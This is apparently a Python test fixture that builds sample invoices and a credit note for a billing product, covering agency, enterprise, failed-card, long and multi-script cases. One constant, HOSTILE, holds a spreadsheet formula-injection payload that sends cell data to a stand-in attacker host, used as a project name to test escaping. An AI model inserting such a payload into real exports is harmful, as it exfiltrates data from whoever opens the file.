"""Invoices of every kind the documents must carry, built as values (no stack): an agency org on Pro,
a BYO org, an Enterprise org paying by wire, a failed card with a wallet deficit, a long invoice of
three pages and more, an org with a CJK name; and a credit note. Periods start at odd times of day, as
Stripe's anchors do. `python -m tests.invoice_samples docs/` renders the README's page."""

from __future__ import annotations

import subprocess
import sys
import tempfile
from decimal import Decimal
from pathlib import Path

from shared.invoices.models import (
    BillTo,
    CreditNote,
    Invoice,
    InvoiceLine,
    Payment,
    Totals,
    WalletStatement,
)

START, END = "2026-09-14T17:23:41Z", "2026-10-14T17:23:41Z"
NEXT_END = "2026-11-14T17:23:41Z"
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _sub(description: str, amount: int, **extra: object) -> InvoiceLine:
    fields: dict[str, object] = {
        "section": "subscription",
        "description": description,
        "amount_minor": amount,
        "paid_via": "stripe",
        "stripe_invoice_id": "in_1QaZ4kLayers0001",
        "stripe_invoice_number": "A1B2C3D4-0001",
        "service_start": START,
        "service_end": END,
        **extra,
    }
    return InvoiceLine.model_validate(fields)


def _spend(platform: str, name: str, project: str, spend: int, fee: int) -> list[InvoiceLine]:
    common = {
        "section": "ad_spend",
        "paid_via": "wallet",
        "project_id": project,
        "platform": platform,
        "service_start": START,
        "service_end": END,
    }
    return [
        InvoiceLine.model_validate({**common, "amount_minor": spend, "description": f"Ad spend: {name}"}),
        InvoiceLine.model_validate(
            {
                **common,
                "amount_minor": fee,
                "rate_bps": 500,
                "base_minor": spend,
                "description": f"Platform fee: {name} (rounded per bill)",
            }
        ),
    ]


def _credits(project: str, name: str, used: int) -> InvoiceLine:
    return InvoiceLine(
        section="credits",
        paid_via="info",
        amount_minor=0,
        quantity=used,
        unit="credits",
        project_id=project,
        service_start=START,
        service_end=END,
        description=f"{name}: {min(used, 3000):,} included, 0 from packs, {max(used - 3000, 0):,} overage",
    )


def _invoice(name: str, mode: str, plan: str, lines: list[InvoiceLine], totals: Totals, **extra: object) -> Invoice:
    fields: dict[str, object] = {
        "invoice_id": "inv_20260914T172341Z",
        "org_id": "org_7f3kq2",
        "period_key": "2026-09-14T17:23:41Z",
        "period_start": START,
        "period_end": END,
        "status": "finalized",
        "number": "LB-2026-000042",
        "currency": "USD",
        "bill_to_name": name,
        "bill_to": BillTo(name=name),
        "billing_mode": mode,
        "plan_name": plan,
        "lines": lines,
        "totals": totals,
        "stripe_invoice_ids": sorted({line.stripe_invoice_id for line in lines if line.stripe_invoice_id}),
        "created_at": "2026-10-14T20:41:07Z",
        "finalized_at": "2026-10-14T20:41:09Z",
        **extra,
    }
    return Invoice.model_validate(fields)


def _totals(lines: list[InvoiceLine], *, unpaid: int = 0, deficit: int = 0, **extra: object) -> Totals:
    stripe = sum(line.amount_minor for line in lines if line.paid_via == "stripe")
    wallet = sum(line.amount_minor for line in lines if line.paid_via == "wallet")
    return Totals.model_validate(
        {
            "charged_through_stripe_minor": stripe,
            "stripe_unpaid_minor": unpaid,
            "paid_from_wallet_minor": wallet,
            "total_minor": stripe + wallet,
            "wallet_deficit_minor": deficit,
            "amount_due_minor": unpaid + deficit,
            **extra,
        }
    )


def agency() -> Invoice:
    """Pro, agency mode: the first month (December's base and next month's in advance: two lines told apart
    by their service period), overage as quantity x unit price, a downgrade refund, spend on three platforms
    with the fee's rate and base, a late line, the wallet statement."""
    lines = [
        _sub("1 × Layers Pro (at $49.00 / month)", 4900, quantity=1, unit_price_minor=Decimal(4900)),  # noqa: RUF001
        _sub(
            "1 × Layers Pro (at $49.00 / month)",  # noqa: RUF001
            4900,
            quantity=1,
            unit_price_minor=Decimal(4900),
            service_start=END,
            service_end=NEXT_END,
            stripe_invoice_id="in_1QbRenewal0002",
            stripe_invoice_number="A1B2C3D4-0002",
        ),
        _sub(
            "Generation credits over the 3,000 included",
            270,
            quantity=150,
            unit="credits",
            unit_price_minor=Decimal("1.8"),
            stripe_invoice_id="in_1QbRenewal0002",
            stripe_invoice_number="A1B2C3D4-0002",
        ),
        _sub("Unused time on Layers Scale after 30 Sep 2026", -8412, unit="prorated", quantity=1),
        _credits("prj_launch", "Spring launch — Überraschung", 3150),
        _credits("prj_hostile", HOSTILE, 0),
        *_spend("meta", "Meta Ads, Spring launch — Überraschung", "prj_launch", 31_250, 1_563),
        *_spend("tiktok", "TikTok Ads, Spring launch — Überraschung", "prj_launch", 12_342, 617),
        *_spend("google", f"Google Ads, {HOSTILE}", "prj_hostile", 9_000, 450),
        InvoiceLine(
            section="ad_spend",
            paid_via="wallet",
            amount_minor=1_999,
            project_id="prj_launch",
            platform="meta",
            description="Ad spend: Meta Ads, Spring launch — Überraschung (billed by Meta after that invoice)",
            late_for="2026-08-14T17:23:41Z",
        ),
    ]
    payments = [
        Payment(method="card", amount_minor=10070, on="2026-10-14", reference="A1B2C3D4-0002"),
        Payment(method="refund", amount_minor=8412, on="2026-09-30", reference="A1B2C3D4-0003"),
        Payment(method="wallet", amount_minor=57_221, on="2026-10-14"),
    ]
    statement = WalletStatement(
        opening_minor=20_000,
        topups_minor=100_000,
        spend_minor=-54_591,
        fees_minor=-2_630,
        refunds_minor=-5_000,
        reversals_minor=0,
        adjustments_minor=0,
        closing_minor=57_779,
    )
    bill_to = BillTo(
        name="Northwind Growth Agency GmbH",
        address_lines=["Kurfürstendamm 21", "10719 Berlin", "Germany"],
        email="ap@northwind.example",
        tax_id="DE 123 456 789",
    )
    return _invoice(
        "Northwind Growth Agency GmbH",
        "agency",
        "Pro",
        lines,
        _totals(lines, payments=payments),
        wallet_statement=statement,
        bill_to=bill_to,
    )


def byo() -> Invoice:
    """Starter, BYO: no wallet statement at all (not even one of zeros)."""
    lines = [
        _sub("1 × Layers Starter (at $19.00 / month)", 1900, quantity=1, unit_price_minor=Decimal(1900)),  # noqa: RUF001
        _credits("prj_main", "Main site", 640),
    ]
    payments = [Payment(method="card", amount_minor=1900, on="2026-09-14", reference="B7C8-0001")]
    zeros = WalletStatement(
        opening_minor=0,
        topups_minor=0,
        spend_minor=0,
        fees_minor=0,
        refunds_minor=0,
        reversals_minor=0,
        adjustments_minor=0,
        closing_minor=0,
    )
    return _invoice(
        "Brightside Bakery", "byo", "Starter", lines, _totals(lines, payments=payments), wallet_statement=zeros
    )


def enterprise_wire() -> Invoice:
    """Enterprise, send_invoice terms, paid by a wire support recorded."""
    lines = [
        _sub(
            "1 × Layers Enterprise (at $2,500.00 / month)",  # noqa: RUF001
            250_000,
            quantity=1,
            unit_price_minor=Decimal(250_000),
        ),
        _sub(
            "Workflow runs over the 10,000 included",
            1_234,
            quantity=1_234,
            unit="runs",
            unit_price_minor=Decimal("1"),
        ),
        _sub(
            "SDK events over the 5,000,000 included",
            1_375,
            quantity=2_750_000,
            unit="events",
            unit_price_minor=Decimal("0.0005"),
        ),
    ]
    payments = [Payment(method="wire", amount_minor=252_609, on="2026-10-29", reference="E9F0-0007")]
    return _invoice("Contoso Holdings plc", "byo", "Enterprise", lines, _totals(lines, payments=payments))


def failed_card() -> Invoice:
    """The renewal's card failed and late bills took the wallet below zero: both due, with how to pay."""
    lines = [
        _sub("1 × Layers Pro (at $49.00 / month)", 4900, quantity=1, unit_price_minor=Decimal(4900)),  # noqa: RUF001
        *_spend("meta", "Meta Ads, Always-on", "prj_always", 8_000, 400),
    ]
    statement = WalletStatement(
        opening_minor=5_000,
        topups_minor=0,
        spend_minor=-8_000,
        fees_minor=-400,
        refunds_minor=0,
        reversals_minor=0,
        adjustments_minor=0,
        closing_minor=-3_400,
    )
    payments = [Payment(method="wallet", amount_minor=5_000, on="2026-10-14")]
    totals = _totals(lines, unpaid=4_900, deficit=3_400, payments=payments, due_on="2026-10-21")
    return _invoice("Failing Card Ventures LLC", "agency", "Pro", lines, totals, wallet_statement=statement)


def long_invoice(projects: int = 10) -> Invoice:
    """One credits line and spend on two platforms per project: three pages and more."""
    lines = [
        _sub(
            "1 × Layers Scale (at $199.00 / month)",  # noqa: RUF001
            19_900,
            quantity=1,
            unit_price_minor=Decimal(19_900),
        )
    ]
    for n in range(projects):
        name = f"Campaign {n:03d} — a long project name that has to wrap onto a second line of the description"
        lines.append(_credits(f"prj_{n:03d}", name, 100 + n))
        lines += _spend("meta", f"Meta Ads, {name}", f"prj_{n:03d}", 1_000 + n, 50)
    wallet = sum(line.amount_minor for line in lines if line.paid_via == "wallet")
    payments = [
        Payment(method="card", amount_minor=19_900, on="2026-09-14", reference="C1-0001"),
        Payment(method="wallet", amount_minor=wallet, on="2026-10-14"),
    ]
    return _invoice("Long Tail Media Ltd", "agency", "Scale", lines, _totals(lines, payments=payments))


CJK_NAME = "東京広告代理店株式会社 · 서울 마케팅 · カタカナ"


def cjk() -> Invoice:
    lines = [
        _sub("1 × Layers Pro (at $49.00 / month)", 4900, quantity=1, unit_price_minor=Decimal(4900)),  # noqa: RUF001
        _credits("prj_tokyo", "春のキャンペーン 東京", 1200),
        *_spend("meta", "Meta Ads, 春のキャンペーン 東京", "prj_tokyo", 20_000, 1_000),
    ]
    bill_to = BillTo(name=CJK_NAME, address_lines=["東京都渋谷区神宮前1-2-3", "150-0001 日本"], tax_id="T1234567890123")
    payments = [
        Payment(method="card", amount_minor=4900, on="2026-09-14", reference="D5E6-0001"),
        Payment(method="wallet", amount_minor=21_000, on="2026-10-14"),
    ]
    return _invoice(CJK_NAME, "agency", "Pro", lines, _totals(lines, payments=payments), bill_to=bill_to)


WORLD_NAME = "क्षत्रिय विज्ञापन एजेंसी · وكالة الإعلانات"
WORLD_PROJECTS = {  # project id: name, in the scripts the fonts shape (README, Fonts)
    "prj_hindi": "क्षत्रिय विज्ञापन अभियान",
    "prj_thai": "โฆษณาไทย",
    "prj_arabic": "وكالة الإعلانات",
    "prj_hebrew": "סוכנות פרסום",
    "prj_emoji": "🚀 Launch 👩🏽‍💻",
    "prj_tamil": "தமிழ் விளம்பரம்",
    "prj_bengali": "বাংলা প্রচার",
    "prj_mixed": "Spring 2026: حملة الربيع 12% · אביב · 春",
}


def world() -> Invoice:
    """Pro, agency mode, an org whose name, projects and billing details are in the scripts that need
    shaping (Devanagari conjuncts, Arabic joining, Thai marks, emoji sequences) and right to left."""
    lines = [
        _sub("1 × Layers Pro (at $49.00 / month)", 4900, quantity=1, unit_price_minor=Decimal(4900)),  # noqa: RUF001
        *(_credits(project, name, 400 + 100 * n) for n, (project, name) in enumerate(WORLD_PROJECTS.items())),
        *_spend("meta", f"Meta Ads, {WORLD_PROJECTS['prj_arabic']}", "prj_arabic", 12_000, 600),
        *_spend("google", f"Google Ads, {WORLD_PROJECTS['prj_hebrew']}", "prj_hebrew", 8_000, 400),
    ]
    bill_to = BillTo(
        name=WORLD_NAME,
        address_lines=["शॉप नं. 12, मरीन ड्राइव, मुंबई 400002", "شارع التحرير 12، القاهرة", "רחוב הרצל 5, תל אביב"],
        email="billing@kshatriya.example",
        tax_id="27AAPFU0939F1ZV",
    )
    payments = [
        Payment(method="card", amount_minor=4900, on="2026-09-14", reference="F7A8-0001"),
        Payment(method="wallet", amount_minor=21_000, on="2026-10-14"),
    ]
    return _invoice(WORLD_NAME, "agency", "Pro", lines, _totals(lines, payments=payments), bill_to=bill_to)


def credit_note() -> CreditNote:
    lines = [
        InvoiceLine(
            section="ad_spend",
            paid_via="wallet",
            amount_minor=1_563,
            project_id="prj_launch",
            platform="meta",
            rate_bps=500,
            base_minor=31_250,
            description="Platform fee: Meta Ads, Spring launch — Überraschung (charged twice)",
        )
    ]
    return CreditNote(
        credit_note_id="cn_01",
        org_id="org_7f3kq2",
        invoice_id="inv_20260914T172341Z",
        invoice_number="LB-2026-000042",
        invoice_period_key="2026-09-14T17:23:41Z",
        number="LBCN-2026-000003",
        currency="USD",
        bill_to_name="Northwind Growth Agency GmbH",
        reason="The Meta fee was charged twice for one bill",
        lines=lines,
        amount_minor=1_563,
        to_wallet_minor=1_563,
        to_stripe_minor=0,
        actor="support:ada",
        idempotency_key="cn-key-1",
        created_at="2026-10-20T09:12:44Z",
    )


KINDS = {
    "agency": agency,
    "byo": byo,
    "enterprise_wire": enterprise_wire,
    "failed_card": failed_card,
    "long": long_invoice,
    "cjk": cjk,
    "world": world,
}


def write_readme_page(out_dir: Path) -> Path:
    """Page 1 of the agency invoice as PNG (what the README shows)."""
    from shared.invoices.render import render_pdf

    out_dir.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory() as tmp:
        pdf = Path(tmp) / "invoice.pdf"
        pdf.write_bytes(render_pdf(agency()))
        target = out_dir / "invoice-page1"
        subprocess.run(
            ["pdftoppm", "-png", "-r", "80", "-f", "1", "-l", "1", "-singlefile", str(pdf), str(target)], check=True
        )
    return target.with_suffix(".png")


if __name__ == "__main__":
    print(write_readme_page(Path(sys.argv[1] if len(sys.argv) > 1 else "docs")))
